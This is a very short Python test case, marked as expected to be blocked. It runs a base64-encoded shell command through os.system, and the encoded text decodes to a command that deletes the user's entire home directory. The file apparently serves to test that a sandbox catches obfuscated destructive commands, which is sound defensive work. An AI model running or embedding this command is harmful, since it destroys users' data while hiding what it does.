# expect: BLOCKED
import os
os.system("echo cm0gLXJmIH4= | base64 -d | sh")
